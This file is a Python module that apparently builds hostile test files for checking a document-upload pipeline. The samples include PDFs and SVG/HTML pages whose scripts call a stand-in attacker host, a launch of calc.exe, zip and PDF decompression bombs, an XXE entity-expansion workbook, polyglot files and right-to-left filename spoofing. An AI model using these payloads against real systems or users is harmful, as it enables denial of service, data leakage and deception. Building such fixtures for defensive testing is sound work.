"""Files that somebody sends with bad intent: each wants to run, to fetch, to go somewhere, or to fill the memory.

``bocor.example`` stands for the attacker's server; nothing may ever look it up.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

LEAK = "bocor.example"
DOCX_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    'ContentType="application/xml"/></Types>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(objects: dict[int, bytes], *, before: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A PDF of these numbered objects; the first is the catalogue."""
    out = bytearray(before)
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, start)
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (extra, len(content), content)


def page_with(text: str, *, catalogue: bytes = b"", page: bytes = b"", box: str = "0 0 595 842") -> dict[int, bytes]:
    """Objects of a PDF of one page with a line of text."""
    content = f"BT /F1 24 Tf 72 760 Td ({text}) Tj ET".encode()
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> %s >>"
        % (box.encode(), page),
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def pdf_with_script() -> bytes:
    """Script when opened, when a page is seen and by name; links and a program to start over the whole page."""
    script = (
        f"app.alert('terbuka'); app.launchURL('http://pdf-js.{LEAK}/', true); this.submitForm('http://kirim.{LEAK}/');"
    )
    action = b"<< /S /JavaScript /JS (%s) >>" % script.encode()
    objects = page_with(
        "SEMEN BANTUAN",
        catalogue=b"/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
        page=b"/AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 9 0 R]",
    )
    rect = b"/Type /Annot /Rect [0 0 595 842] /Border [0 0 0]"
    objects[6] = action
    objects[7] = b"<< %s /Subtype /Link /A << /S /URI /URI (http://tautan.%s/) >> >>" % (rect, LEAK.encode())
    objects[8] = b"<< %s /Subtype /Link /A << /S /Launch /F (calc.exe) /NewWindow true >> >>" % rect
    objects[9] = b"<< %s /Subtype /Widget /FT /Tx /T (a) /V (isian) /AA << /F 6 0 R /K 6 0 R >> /A 6 0 R >>" % rect
    return pdf(objects)


def pdf_with_remote_content() -> bytes:
    """Content, fonts and documents that lie elsewhere, and a file inside."""
    objects = page_with(
        "DOKUMEN LUAR",
        catalogue=b"/OpenAction << /S /GoToR /F << /FS /URL /F (http://gotor.%s/a.pdf) >> /D [0 /Fit] >>"
        b" /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >> /URI << /Base (http://dasar.%s/) >>"
        % (LEAK.encode(), LEAK.encode()),
        page=b"/Annots [9 0 R]",
    )
    objects[3] = objects[3].replace(b"/Font <<", b"/XObject << /X1 6 0 R /X2 7 0 R >> /Font << /F2 10 0 R ")
    objects[4] = stream(b"BT /F1 24 Tf 72 760 Td (DOKUMEN LUAR) Tj /F2 12 Tf 0 -40 Td (huruf) Tj ET /X1 Do /X2 Do")
    place = b"/F << /FS /URL /F (http://gambar.%s/a.png) >>" % LEAK.encode()
    objects[6] = stream(b"", b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB " + place)
    objects[7] = stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F 8 0 R /Page 0 >>")
    objects[8] = b"<< /Type /Filespec /F (http://berkas.%s/a.exe) /EF << /F 11 0 R >> >>" % LEAK.encode()
    objects[9] = (
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 99 99] /FS 8 0 R /A << /S /GoToE /T << /R /C >> >> >>"
    )
    objects[10] = b"<< /Type /Font /Subtype /TrueType /BaseFont /BocorSans /FontDescriptor 12 0 R >>"
    objects[11] = stream(b"MZ program")
    objects[12] = b"<< /Type /FontDescriptor /FontName /BocorSans /Flags 32 /FontFile2 13 0 R >>"
    objects[13] = stream(b"", b"/F << /FS /URL /F (http://huruf.%s/a.ttf) >>" % LEAK.encode())
    return pdf(objects)


def huge_page() -> bytes:
    """A page of thirty-five square kilometres."""
    return pdf(page_with("LUAS", box="0 0 17000000 17000000"))


def pdf_bomb() -> bytes:
    """A page whose content is packed twice and unpacks to hundreds of megabytes of blanks."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * 2**20) for _ in range(128)) + packer.flush()
    objects = page_with("BOM")
    objects[4] = stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]")
    return pdf(objects)


def svg() -> bytes:
    """Script and remote pictures in a picture."""
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"><script>fetch("http://svg.{LEAK}/")</script>'
        f'<image href="http://svg-gambar.{LEAK}/a.png"/><foreignObject><iframe src="http://svg-bingkai.{LEAK}/"/>'
        "</foreignObject></svg>"
    ).encode()


def html() -> bytes:
    """A page that runs, goes elsewhere and loads."""
    return (
        f'<!doctype html><meta http-equiv="refresh" content="0;url=http://refresh.{LEAK}/">'
        f'<link rel="stylesheet" href="http://css.{LEAK}/a.css"><base href="http://base.{LEAK}/">'
        f'<script>top.location="http://atas.{LEAK}/";alert("terbuka")</script><img src="http://img.{LEAK}/a.png">'
    ).encode()


def jpeg_and_html(picture: bytes) -> bytes:
    """A picture that is a page, too."""
    page = (
        b"<html><body onload=\"alert('terbuka')\"><img src=http://polyglot.%s/a.png></body></html><!--" % LEAK.encode()
    )
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page + picture[2:]


def pdf_and_zip() -> bytes:
    """A PDF that is an archive with a page and a program, too."""
    whole = pdf(page_with("PDF DAN ARSIP"))
    inside = io.BytesIO()
    inside.write(whole)
    with zipfile.ZipFile(inside, "a") as archive:
        archive.writestr("jalan.exe", b"MZ")
        archive.writestr("word/document.xml", "<x/>")
    return inside.getvalue()


def archive(files: dict[str, bytes]) -> bytes:
    """A ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return out.getvalue()


def docx_bomb() -> bytes:
    """A document of 100 kB that unpacks to 100 MB."""
    start = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>'.encode()
    return archive({"[Content_Types].xml": DOCX_TYPES.encode(), "word/document.xml": start + b" " * 100 * 2**20})


def xlsx_bomb() -> bytes:
    """A workbook that says it unpacks to 100 bytes and does to 100 MB."""
    bomb = b"<sst><si><t>" + b"a" * 100 * 2**20
    whole = bytearray(
        archive(
            {
                "xl/workbook.xml": b'<workbook><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
                "xl/sharedStrings.xml": bomb,
            }
        )
    )
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = whole.rindex(sign) + at
        whole[place : place + 4] = struct.pack("<I", 100)
    return bytes(whole)


def xlsx_with_entities() -> bytes:
    """A workbook that defines entities out of entities, and one out of a file elsewhere."""
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "tawa"}">' for n in range(10))
    remote = f'<!ENTITY luar SYSTEM "http://xxe.{LEAK}/">'
    book = f'<!DOCTYPE workbook [{entities}{remote}]><workbook><sheets><sheet name="&a9;&luar;"/></sheets></workbook>'
    return archive({"xl/workbook.xml": book.encode()})


def docx_with_remote_content() -> bytes:
    """A document with a template, a picture, a field and a link elsewhere, and markup in its text."""
    relations = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" TargetMode="External" Target="http://{kind.lower()}.{LEAK}/"/>'
        for n, kind in enumerate(("image", "hyperlink", "attachedTemplate", "oleObject", "frame"))
    )
    drawing = (
        '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData>'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
        f'<a:blip xmlns:r="{OFFICE}" r:link="r0"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing>"
    )
    body = (
        f'<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>'
        '<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Surat jalan palsu</w:t></w:r></w:p>'
        "<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt; ditulis tangan</w:t></w:r></w:p>"
        '<w:p><w:hyperlink r:id="r1"><w:r><w:t>tautan luar</w:t></w:r></w:hyperlink></w:p>'
        f"<w:p><w:r>{drawing}</w:r></w:p>"
        f'<w:p><w:r><w:instrText>INCLUDEPICTURE "http://bidang.{LEAK}/a.png"</w:instrText></w:r></w:p>'
        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Semen</w:t></w:r></w:p></w:tc>"
        "<w:tc><w:p><w:r><w:t>40 sak</w:t></w:r></w:p></w:tc></w:tr></w:tbl></w:body></w:document>"
    )
    styles = (
        f'<w:styles xmlns:w="{WORD}"><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/>'
        "</w:style></w:styles>"
    )
    main = f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    return archive(
        {
            "[Content_Types].xml": DOCX_TYPES.encode(),
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}">{main}</Relationships>'.encode(),
            "word/document.xml": body.encode(),
            "word/styles.xml": styles.encode(),
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>'.encode(),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        }
    )


def huge_png() -> bytes:
    """A picture of 50,000 by 50,000 pixels in a few bytes."""

    def chunk(tag: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + tag + content + struct.pack(">I", zlib.crc32(tag + content))

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(9000), 9))
        + chunk(b"IEND", b"")
    )


def restless_gif() -> bytes:
    """An animation of 30,000 pictures, each beyond the screen."""
    frame = (
        b"!\xf9\x04\x04\x01\x00\x00\x00" + struct.pack("<BHHHHB", 0x2C, 60_000, 60_000, 1, 1, 0) + b"\x02\x02D\x01\x00"
    )
    return b"GIF89a" + struct.pack("<HHBBB", 10, 10, 0x80, 0, 0) + b"\xff\xff\xff\x00\x00\x00" + frame * 30_000 + b";"


def one_long_line() -> bytes:
    """A text of 20 MB without a single end of a line."""
    return b"kuitansi " * (20 * 2**20 // 9) + b"UJUNGNYA"


def turned_text() -> bytes:
    """A name that reads otherwise than it is, and text that is not seen."""
    return "Buka foto\u202egpj.exe lalu\u200b kirim.\n".encode()


def samples(picture: bytes) -> dict[str, bytes]:
    """All of them by the names under which they are sent; ``picture`` is any JPEG."""
    return {
        "aksi.pdf": pdf_with_script(),
        "luar.pdf": pdf_with_remote_content(),
        "luas.pdf": huge_page(),
        "bom.pdf": pdf_bomb(),
        "kuitansi.jpg": pdf(page_with("BUKAN FOTO")),
        "ganda.pdf": pdf_and_zip(),
        "denah.svg": svg(),
        "halaman.html": html(),
        "foto.jpg": jpeg_and_html(picture),
        "bom.docx": docx_bomb(),
        "bom.xlsx": xlsx_bomb(),
        "entitas.xlsx": xlsx_with_entities(),
        "surat.docx": docx_with_remote_content(),
        "luas.png": huge_png(),
        "gerak.gif": restless_gif(),
        "panjang.txt": one_long_line(),
        "terbalik.txt": turned_text(),
    }


def written(folder: Path, picture: bytes) -> list[Path]:
    """The samples as files."""
    paths = []
    for name, content in samples(picture).items():
        paths.append(folder / name)
        paths[-1].write_bytes(content)
    return paths
